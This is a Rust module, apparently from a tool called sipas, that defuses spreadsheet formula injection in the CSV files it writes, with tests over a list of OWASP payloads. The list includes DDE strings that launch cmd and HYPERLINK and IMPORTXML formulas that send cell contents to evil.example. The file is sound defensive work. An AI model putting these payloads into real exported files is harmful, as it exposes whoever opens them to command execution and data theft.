//! Cells that a spreadsheet would run as a formula, made inert.
//!
//! A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and
//! LibreOffice as a formula (`=HYPERLINK(…)`, `+cmd|' /C calc'!A0`). OWASP's rule for CSV
//! injection: prefix such a cell with a single quote, which the spreadsheet shows as text. Numbers
//! stay numbers: `-3.5` or `+2` is a value, not a formula, and is written unchanged. Every CSV that
//! sipas writes passes its text cells through [`cell`].

use std::borrow::Cow;

/// `text`, or `'text` when a spreadsheet would take it for a formula.
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.as_bytes().first() {
        Some(&b) if starts_formula(b) && !is_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Whether a cell starting with byte `b` may be a formula: `=`, `+`, `-`, `@`, a tab or a
/// carriage return (then [`cell`] looks at the whole text: a number is not one).
pub fn starts_formula(b: u8) -> bool {
    matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
}

/// A plain decimal number (`-3.5`, `+2`, `-1e-3`), which a spreadsheet reads as a value.
fn is_number(text: &str) -> bool {
    let t = text.trim_start_matches(['+', '-']);
    !t.is_empty()
        && t.len() + 1 >= text.len()
        && t.bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
        && text.parse::<f64>().is_ok_and(f64::is_finite)
}

#[cfg(test)]
mod tests {
    use super::cell;

    /// The OWASP CSV-injection payloads (and variants seen in the wild).
    pub(crate) const PAYLOADS: [&str; 14] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
        "+1+1",
        "-1+1",
        "@A1",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "-",
    ];

    #[test]
    fn every_payload_is_neutralised() {
        for p in PAYLOADS {
            let c = cell(p);
            assert_eq!(c, format!("'{p}"), "{p:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_unchanged() {
        for t in [
            "-3.5",
            "+2",
            "-1e-3",
            "12",
            "",
            "Phường Trưng Vương",
            "a=b",
            "05443",
            "2024Q1",
        ] {
            assert_eq!(cell(t), t, "{t:?}");
        }
        // Not a number: a formula in disguise.
        assert_eq!(cell("-1-"), "'-1-");
        assert_eq!(cell("+inf"), "'+inf");
    }
}
